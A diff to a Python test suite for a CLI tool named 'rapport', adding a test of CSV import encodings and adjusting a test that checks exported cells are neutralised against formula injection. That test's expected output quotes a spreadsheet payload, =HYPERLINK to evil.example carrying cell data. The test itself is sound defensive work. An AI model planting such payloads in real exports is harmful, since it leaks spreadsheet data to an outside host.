@@ -37,6 +37,13 @@ def rapport(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]
     )
 
 
+def attempt(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    """``rapport`` run as one whose exit status the test checks itself."""
+    return subprocess.run(
+        [RAPPORT, *args], env=env, capture_output=True, text=True, timeout=120, check=False
+    )
+
+
 def free_port() -> int:
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
@@ -213,9 +220,40 @@ def test_exported_cells_that_would_run_as_formulas_are_neutralised(
     assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'@SUM(A1)"' in output
     names = {(row["first_name"], row["last_name"]) for row in csv.DictReader(io.StringIO(output))}
     assert names == {
-        ("\'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\'@SUM(A1)"),
-        ("\'+1+1", "\'-2+3"),
+        ('\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(A1)"),
+        ("'+1+1", "'-2+3"),
     }
+
+
+def test_import_reads_utf8_unless_told_and_reports_lines_invalid_in_the_encoding(
+    environment: dict[str, str], tmp_path: Path
+) -> None:
+    rapport(environment, "db", "upgrade")
+    mixed = tmp_path / "mixed.csv"
+    mixed.write_bytes(
+        b"first_name,last_name,email\n"
+        + "王,芳,wf@example.cn\n".encode("gb18030")
+        + "张伟,李娜,zw@example.cn\n".encode()
+    )
+    result = attempt(environment, "import", "customers", str(mixed))
+    assert result.returncode == 1, result.stderr
+    assert "2 rows (utf-8): 1 created, 0 updated, 0 unchanged, 0 merged, 1 rows rejected" in (
+        result.stderr
+    )
+    report = (tmp_path / "mixed.csv.errors.csv").read_text(encoding="utf-8")
+    [line] = csv.DictReader(io.StringIO(report))
+    assert (line["row"], line["code"]) == ("2", "INVALID_ENCODING")
+
+    chinese = tmp_path / "gb.csv"
+    chinese.write_bytes("first_name,last_name,email\n李,雷,ll@example.cn\n".encode("gb18030"))
+    read = rapport(environment, "import", "customers", str(chinese), "--encoding", "gb18030")
+    assert "1 rows (gb18030): 1 created" in read.stderr
+    exported = csv.DictReader(io.StringIO(rapport(environment, "export", "customers").stdout))
+    assert sorted(row["last_name"] for row in exported) == ["李娜", "雷"]
+
+    refused = attempt(environment, "import", "customers", str(chinese), "--encoding", "klingon")
+    assert refused.returncode == 2
+    assert "encoding: 'klingon' is not an encoding (INVALID)" in refused.stderr
 
 
 def test_recurring_jobs_are_listed_and_run_when_due(environment: dict[str, str]) -> None:
